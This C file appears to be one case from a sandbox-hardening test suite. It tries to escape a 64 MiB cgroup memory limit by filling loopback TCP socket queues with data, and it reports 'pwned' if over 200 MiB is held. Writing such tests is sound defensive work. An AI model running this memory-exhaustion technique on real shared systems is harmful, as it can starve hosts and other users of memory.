/* threat: 1.7-tcp-buffers
 * attack: hold memory in loopback TCP queues, which cgroup v1 does not charge by itself
 * expect: status=ok|memory_limit|nonzero_exit|signaled; mem<300m; ends<15s; silent
 * limits: --memory 64m --wall 10s
 * control: tcp_buffers
 */
#include "attack.h"

#include <arpa/inet.h>

int main(void)
{
    static char block[65536];
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 512) ||
        getsockname(listener, (struct sockaddr *)&address, &size)) {
        say("no loopback: %s\n", strerror(errno));
        return 1;
    }
    size_t queued = 0;
    for (int i = 0; i < 300 && queued < 700 * MIB; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address))
            break;
        int peer = accept(listener, NULL, NULL);
        fcntl(fd, F_SETFL, O_NONBLOCK);
        fcntl(peer, F_SETFL, O_NONBLOCK);
        for (int idle = 0; idle < 3;) {
            ssize_t sent = send(fd, block, sizeof block, MSG_NOSIGNAL), back = send(peer, block, sizeof block, MSG_NOSIGNAL);
            if (sent <= 0 && back <= 0) {
                idle++;
                sched_yield();
                continue;
            }
            queued += (size_t)(sent > 0 ? sent : 0) + (size_t)(back > 0 ? back : 0);
        }
    }
    say("queued %zu MiB\n", queued / MIB);
    if (queued > 200 * MIB)
        pwned("%zu MiB queued in TCP sockets under a limit of 64 MiB", queued / MIB);
    nap_ms(400);
    return 0;
}
